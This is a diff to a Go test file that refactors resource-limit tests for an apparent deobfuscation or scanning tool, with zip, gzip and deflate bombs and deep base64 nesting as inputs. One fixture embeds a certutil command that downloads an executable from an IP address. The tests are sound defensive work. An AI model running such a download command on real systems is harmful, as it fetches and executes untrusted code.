@@ -42,7 +42,16 @@ func manyZip(t testing.TB, n int) []byte {
 	return zipOf(t, files...)
 }
 
-func TestLimits(t *testing.T) {
+// limitCase is a bomb or an over-deep input with the limit it must hit.
+type limitCase struct {
+	name      string
+	in        string
+	lim       Limits
+	wantLimit string // the LimitError's Limit
+	wantIn    string // a step whose Limit mentions it
+}
+
+func limitCases(t *testing.T) []limitCase {
 	text := []byte("certutil -urlcache -f http://198.51.100.1/p.exe")
 	nestedB64 := string(text)
 	for range 12 {
@@ -68,13 +77,7 @@ func TestLimits(t *testing.T) {
 		frags = append(frags, psEnc(fmt.Sprintf("Write-Output step%02d", i)))
 	}
 
-	tests := []struct {
-		name      string
-		in        string
-		lim       Limits
-		wantLimit string // the LimitError's Limit
-		wantIn    string // a step whose Limit mentions it
-	}{
+	return []limitCase{
 		{"zip bomb member", "x=" + b64(zeroZip(t, "zeros.bin", 40<<20)), Limits{}, "MaxMemberBytes", `member "zeros.bin"`},
 		{"gzip bomb", "x=" + b64(gz(t, make([]byte, 8<<20))), Limits{MaxMemberBytes: 1 << 20}, "MaxMemberBytes", "gzip stream"},
 		{"raw deflate bomb", "x=" + b64(deflated(t, make([]byte, 4<<20))), Limits{MaxMemberBytes: 1 << 20}, "MaxMemberBytes", "deflate stream"},
@@ -87,7 +90,10 @@ func TestLimits(t *testing.T) {
 		{"total bytes", "x=" + b64(big), Limits{MaxTotalBytes: 1 << 20}, "MaxTotalBytes", "MaxTotalBytes"},
 		{"steps", strings.Join(frags, " "), Limits{MaxSteps: 10}, "MaxSteps", ""},
 	}
-	for _, tt := range tests {
+}
+
+func TestLimits(t *testing.T) {
+	for _, tt := range limitCases(t) {
 		t.Run(tt.name, func(t *testing.T) {
 			var before, after runtime.MemStats
 			runtime.GC()
